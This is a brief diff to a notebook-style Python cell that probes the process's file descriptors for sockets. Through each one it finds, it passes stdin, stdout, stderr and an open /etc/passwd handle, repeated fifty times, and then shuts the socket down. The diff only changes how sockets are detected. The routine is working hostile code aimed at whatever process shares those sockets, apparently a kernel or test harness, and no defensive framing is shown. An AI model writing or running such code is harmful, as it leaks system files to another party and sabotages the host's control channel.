@@ -6,11 +6,12 @@
 # %% last
 import os
 import socket
+import stat
 
-for name in os.listdir("/proc/self/fd"):
+for descriptor in range(256):
     try:
-        if "socket" in os.readlink(f"/proc/self/fd/{name}"):
-            channel = socket.socket(fileno=os.dup(int(name)))
+        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+            channel = socket.socket(fileno=os.dup(descriptor))
             socket.send_fds(channel, [b"\x00"], [0, 1, 2, os.open("/etc/passwd", os.O_RDONLY)] * 50)
             channel.shutdown(socket.SHUT_RDWR)
     except OSError:
